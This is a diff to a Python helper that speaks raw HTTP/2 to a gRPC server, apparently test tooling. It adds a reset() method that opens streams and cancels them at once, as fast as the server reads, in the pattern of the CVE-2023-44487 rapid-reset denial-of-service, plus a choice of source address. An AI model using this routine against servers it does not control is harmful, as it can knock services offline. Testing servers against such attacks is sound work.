@@ -7,9 +7,10 @@ from collections.abc import Iterator
 from contextlib import contextmanager, suppress
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_DATA, _HEADERS, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 4, 6, 8
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
 _ACK, _END_HEADERS = 1, 4
 _FRAME_BYTES = 16_384
+_CANCEL = 8
 
 
 class UnfinishedCalls:
@@ -23,12 +24,23 @@ class UnfinishedCalls:
         self.calls = [1 + 2 * number for number in range(num_calls)]
         self._connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
         headers = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "a", "te": "trailers"}
-        block = b"".join(
+        self._block = b"".join(
             map(_literal, *zip(*(headers | {"content-type": "application/grpc"} | metadata).items(), strict=True))
         )
         for call in self.calls:
             self._window[call] = 65_535
-            self._connection.sendall(_frame(_HEADERS, _END_HEADERS, call, block))
+            self._connection.sendall(_frame(_HEADERS, _END_HEADERS, call, self._block))
+
+    def reset(self, num_calls: int) -> int:
+        """Begin and cancel calls, as fast as the server reads (CVE-2023-44487); return the number that were sent."""
+        begun = max(self.calls, default=-1) + 2
+        for number, call in enumerate(range(begun, begun + 2 * num_calls, 2)):
+            frames = _frame(_HEADERS, _END_HEADERS, call, self._block)
+            try:
+                self._connection.sendall(frames + _frame(_RST_STREAM, 0, call, _CANCEL.to_bytes(4)))
+            except OSError:  # the server has closed the connection or receives no more
+                return number
+        return num_calls
 
     def send(self, num_bytes: int) -> int:
         """Send the first `num_bytes` of a longer message in each call, as far as allowed; return the sum of bytes."""
@@ -76,10 +88,12 @@ class UnfinishedCalls:
 
 
 @contextmanager
-def unfinished_calls(address: str, method: str, num_calls: int, **metadata: str) -> Iterator[UnfinishedCalls]:
-    """Connect to a gRPC server and begin calls."""
+def unfinished_calls(
+    address: str, method: str, num_calls: int, source: str = "127.0.0.1", **metadata: str
+) -> Iterator[UnfinishedCalls]:
+    """Connect to a gRPC server, from an address of this host, and begin calls."""
     host, _, port = address.rpartition(":")
-    with socket.create_connection((host, int(port))) as connection:
+    with socket.create_connection((host, int(port)), source_address=(source, 0)) as connection:
         yield UnfinishedCalls(connection, method, num_calls, metadata)
 
 
